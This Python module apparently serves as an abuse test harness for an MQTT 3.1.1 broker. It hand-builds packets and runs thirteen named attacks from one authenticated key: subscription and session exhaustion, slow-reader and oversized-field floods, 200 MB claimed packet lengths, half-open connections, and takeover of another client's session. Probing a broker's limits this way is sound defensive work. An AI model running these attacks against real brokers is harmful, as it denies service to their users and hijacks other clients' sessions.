"""What one ordinary key can do to a broker by MQTT 3.1.1, packet by packet: no library would send most of this."""

import asyncio
import time
from collections.abc import Awaitable, Callable, Iterator, Sequence
from contextlib import suppress
from dataclasses import dataclass, field
from itertools import count, islice, product

Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]

CONNECT, PUBLISH, SUBSCRIBE, DISCONNECT = 0x10, 0x30, 0x82, 0xE0  # section 2.2.1
CLEAN, WILL_AT_QOS_1, LOGIN = 0x02, 0x0C, 0xC0  # section 3.1.2.3


def text(value: bytes | str) -> bytes:
    """Return a field with its length before it."""
    content = value.encode() if isinstance(value, str) else value
    return len(content).to_bytes(2, "big") + content


def packet(kind: int, body: bytes = b"", length: int | None = None) -> bytes:
    """Return a packet, which may claim another length than it has."""
    left, digits = len(body) if length is None else length, bytearray([kind])
    while True:
        left, digit = divmod(left, 128)
        digits.append(digit | (0x80 if left else 0))
        if not left:
            return bytes(digits) + body


def subscribe(filters: Sequence[str], qos: int = 0) -> bytes:
    return packet(SUBSCRIBE, b"\0\1" + b"".join(text(one) + bytes([qos]) for one in filters))


def publish(topic: str, payload: bytes, *, retain: bool = False) -> bytes:
    return packet(PUBLISH | retain, text(topic) + payload)


@dataclass
class Attacker:
    """One key at a broker, how long it goes on [s], and the connections that it holds."""

    host: str
    port: int
    user: str
    key: str
    pilot: str
    seconds: float
    writers: list[asyncio.StreamWriter] = field(default_factory=list)

    def moments(self, pause: float = 0.1) -> Iterator[float]:
        """Yield pauses [s] until the time is over."""
        began = time.monotonic()
        while time.monotonic() < began + self.seconds:  # which may be ended from outside
            yield pause

    async def open(self) -> Streams:
        """Connect by TCP alone."""
        reader, writer = await asyncio.open_connection(self.host, self.port)
        self.writers.append(writer)
        return reader, writer

    async def connect(self, id_: str, *, clean: bool = True, will: tuple[str, bytes] | None = None) -> Streams:
        """Connect by MQTT; a refusal is an `OSError`."""
        reader, writer = await self.open()
        flags = LOGIN | CLEAN * clean | (WILL_AT_QOS_1 if will else 0)
        fields = b"".join(map(text, (id_, *(will or ()), self.user, self.key)))
        writer.write(packet(CONNECT, text("MQTT") + bytes([4, flags, 0, 0]) + fields))
        try:
            answer = await asyncio.wait_for(reader.readexactly(4), 30)
        except (asyncio.IncompleteReadError, TimeoutError) as error:
            raise ConnectionError("no answer") from error
        if answer[3]:
            raise ConnectionError("refused")
        return reader, writer


async def send(writer: asyncio.StreamWriter, data: bytes) -> None:
    writer.write(data)
    await writer.drain()


async def subscriptions(one: Attacker) -> None:
    """60,000 subscriptions, deep and with wildcards."""
    levels = product(("+", "a", "b"), repeat=10)
    filters = (f"zenata/telemetry/+/{'/'.join(some)}/#" for some in levels)
    for number in range(60):
        _, writer = await one.connect(f"many-{number}")
        for _ in range(10):
            await send(writer, subscribe(list(islice(filters, 100))))
    for pause in one.moments():
        await asyncio.sleep(pause)


async def unacknowledged(one: Attacker) -> None:
    """Subscriptions at QoS 1 to the city, over all connections, of which nothing is read or acknowledged."""

    async def hold(number: int) -> None:
        with suppress(OSError):
            _, writer = await one.connect(f"deaf-{number}", clean=number % 2 == 0)
            await send(writer, subscribe([f"zenata/telemetry/{'+/' * n}#" for n in range(4)], 1))
            for pause in one.moments():
                await asyncio.sleep(pause)

    await asyncio.gather(*(hold(number) for number in range(90)))


async def slow_readers(one: Attacker) -> None:
    """Long messages to itself, on connections that want them many times each and read nothing."""
    mine = f"pilots/{one.pilot}"
    filters = [f"{mine}/{rest}" for rest in ("#", "+/#", "+/+", "+/+/#", "telemetry/#", "telemetry/+", "+/a", "+/a/#")]
    for number in range(90):
        _, reader = await one.connect(f"slow-{number}")
        await send(reader, subscribe(filters))
    _, writer = await one.connect("speaker")
    for pause in one.moments(0.7):  # within twice the quota
        await send(writer, publish(f"{mine}/telemetry/a", b"x" * 1_000_000))
        await asyncio.sleep(pause)


async def wills(one: Attacker) -> None:
    """Long last wills, of connections that vanish."""
    for number, pause in enumerate(one.moments()):
        with suppress(OSError):
            will = (f"pilots/{one.pilot}/telemetry/w{number % 50}", b"\xff" * 60_000)
            _, writer = await one.connect(f"will-{number % 50}", will=will)
            writer.transport.abort()
        await asyncio.sleep(pause)


async def long_topics(one: Attacker) -> None:
    """Topics of 60 kB at QoS 1, no two alike, within twice the quota of messages, for a session that never resumes."""
    _, away = await one.connect("away", clean=False)
    await send(away, subscribe([f"pilots/{one.pilot}/#"], 1))
    await asyncio.sleep(1.0)
    await send(away, packet(DISCONNECT))
    _, writer = await one.connect("long-topics")
    for number, pause in enumerate(one.moments(1 / 150)):
        topic = f"pilots/{one.pilot}/telemetry/{number:06}{'x' * 60_000}"
        await send(writer, packet(PUBLISH | 2, text(topic) + (number % 65_535 + 1).to_bytes(2, "big")))
        await asyncio.sleep(pause)


async def long_ids(one: Attacker) -> None:
    """Client ids of 60 kB."""
    for number, pause in enumerate(one.moments()):
        with suppress(OSError):
            await one.connect(f"{number:06}{'x' * 60_000}")
        await asyncio.sleep(pause)


async def retained(one: Attacker) -> None:
    """Retained messages where it may not leave any."""
    topics = (
        "zenata/telemetry/x/air/{}",
        "zenata/clock",
        "zenata/commands/x/{}",
        "pilots/other/telemetry/{}",
        "truth/{}",
    )
    number = count()
    for pause in one.moments():
        with suppress(OSError):
            _, writer = await one.connect("retaining")
            for _ in range(20):
                await send(writer, publish(topics[next(number) % 5].format(next(number)), b"x", retain=True))
        await asyncio.sleep(pause)


async def sessions(one: Attacker) -> None:
    """Sessions that nobody resumes, each under an id of its own."""
    for number in range(600):
        with suppress(OSError):
            _, writer = await one.connect(f"left-{number}", clean=False)
            await send(writer, subscribe(["zenata/telemetry/#", f"pilots/{one.pilot}/#"], 1))
            await asyncio.sleep(0.05)
            await send(writer, packet(DISCONNECT))
        await asyncio.sleep(0.05)


async def empty_sessions(one: Attacker) -> None:
    """Sessions without subscriptions, more than a pilot may have."""
    for number in range(410):
        _, writer = await one.connect(f"empty-{number}", clean=False)
        await send(writer, packet(DISCONNECT))


async def takeovers(one: Attacker) -> None:
    """Connect with the id of the other pilot, and throw away its session."""
    for number, pause in enumerate(one.moments()):
        with suppress(OSError):
            await one.connect("other", clean=number % 2 == 0)
        await asyncio.sleep(pause)


async def denied(one: Attacker) -> None:
    """Messages on topics that it may not publish to, as fast as the network goes."""
    storm = b"".join(publish(f"zenata/telemetry/x/air/{number}", b"x" * 50) for number in range(500))
    for pause in one.moments():
        with suppress(OSError):
            _, writer = await one.connect("denied")
            for _ in one.moments():
                await send(writer, storm)
        await asyncio.sleep(pause)


async def long_packets(one: Attacker) -> None:
    """Packets of 200 MB: of a CONNECT, before anybody knows who it is, and of a SUBSCRIBE."""

    async def pour(number: int) -> None:
        for pause in one.moments():
            with suppress(OSError):
                _, writer = await (one.open() if number % 2 else one.connect(f"long-{number}"))
                writer.write(packet(CONNECT if number % 2 else SUBSCRIBE, length=200_000_000))
                for _ in range(3000):
                    await send(writer, b"\0" * 2**16)
            await asyncio.sleep(pause)

    await asyncio.gather(*(pour(number) for number in range(20)))


async def half_open(one: Attacker) -> None:
    """Connections that say nothing."""
    for _ in range(300):
        await one.open()
    for pause in one.moments():
        await asyncio.sleep(pause)


ATTACKS: dict[str, Callable[[Attacker], Awaitable[None]]] = {
    one.__name__: one
    for one in (
        subscriptions,
        unacknowledged,
        slow_readers,
        wills,
        long_topics,
        long_ids,
        retained,
        sessions,
        empty_sessions,
        takeovers,
        denied,
        long_packets,
        half_open,
    )
}


def attack(name: str, one: Attacker) -> None:
    """Do one of `ATTACKS` until its time is over, or the broker ends it."""

    async def run() -> None:
        try:
            await ATTACKS[name](one)
        except OSError:
            pass
        finally:
            for writer in one.writers:
                writer.transport.abort()

    asyncio.run(run())
